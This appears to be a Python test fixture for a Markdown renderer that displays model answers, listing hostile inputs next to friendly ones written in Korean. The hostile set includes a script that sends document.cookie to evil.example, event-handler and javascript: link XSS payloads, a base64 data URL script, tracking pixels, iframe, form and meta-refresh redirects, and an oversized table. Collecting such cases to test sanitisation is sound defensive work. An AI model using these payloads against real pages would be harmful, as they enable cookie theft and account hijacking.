"""Answers a hostile (or careless) model could send, shared by the server and browser renderer tests."""

HUGE_TABLE_ROWS = 3000
HUGE_TABLE_COLUMNS = 14


def huge_table() -> str:
    head = "| " + " | ".join(f"열{c}" for c in range(HUGE_TABLE_COLUMNS)) + " |"
    rule = "|" + "---:|" * HUGE_TABLE_COLUMNS
    rows = [
        "| " + " | ".join(f"값{r}-{c}" for c in range(HUGE_TABLE_COLUMNS)) + " |"
        for r in range(HUGE_TABLE_ROWS)
    ]
    return "\n".join([head, rule, *rows])


HOSTILE = {
    "script": "안녕하세요 <script>fetch('https://evil.example/x?c='+document.cookie)</script> 끝",
    "handler": '<img src="https://evil.example/p.png" onerror="alert(1)"> <b onclick="alert(2)">굵게</b>',
    "javascript_link": "[눌러 보세요](javascript:alert(document.domain)) [대문자](JaVaScRiPt:alert(1))",
    "entity_javascript": "[엔티티](&#106;avascript:alert(1)) [탭](java\tscript:alert(1))",
    "reference_javascript": "[참조][1]\n\n[1]: javascript:alert(1)",
    "autolink_javascript": "<javascript:alert(1)> <vbscript:msgbox(1)>",
    "data_link": "[데이터](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "remote_image": '![추적 픽셀](https://evil.example/pixel.png?who=citizen "제목")',
    "data_image": "![그림](data:image/png;base64," + "A" * 400 + ")",
    "relative_image": "![상대](/arena/my-data/delete/)",
    "relative_link": "[내 정보](/arena/my-data/) [조각](#main)",
    "raw_iframe": '<iframe src="https://evil.example/"></iframe><object data="x"></object>',
    "raw_style": '<style>body{background:url(https://evil.example/bg.png)}</style><div style="background:url(https://evil.example/a)">x</div>',
    "svg": '<svg onload="alert(1)"><image href="https://evil.example/s.png"/></svg>',
    "form": '<form action="https://evil.example/"><input name="q"><button>보내기</button></form>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "code_info": '```python" onmouseover="alert(1)\nprint("hi")\n```',
    "huge_table": huge_table(),
}

FRIENDLY = {
    "headings_and_lists": "## 요약\n\n**참고:** 다음을 확인하세요.\n\n- 첫째\n- 둘째\n  1. 하위\n\n> 인용\n\n---\n\n~~취소~~",
    "table": "| 항목 | 금액 |\n|:--|--:|\n| 전입신고 | 0원 |\n| 등본 | 200원 |",
    "code": "```python\ndef f(x):\n    return x * 2\n```\n\n인라인 `코드`",
    "math": "이차방정식 $ax^2 + bx + c = 0$ 의 해는 $$x = \\frac{-b \\pm \\sqrt{b^2-4ac}}{2a}$$ 이고 \\(a_1 + b_1\\) 과 \\[e^{i\\pi}\\] 도 그대로. 가격은 $5 와 $6 입니다.",
    "link": "[정부24](https://www.gov.kr) 또는 <https://www.gov.kr/portal> 메일 [문의](mailto:help@example.kr)",
    "hard_break": "첫 줄  \n둘째 줄\n셋째 줄",
    "numbered_from_three": "3. 셋째\n4. 넷째",
}
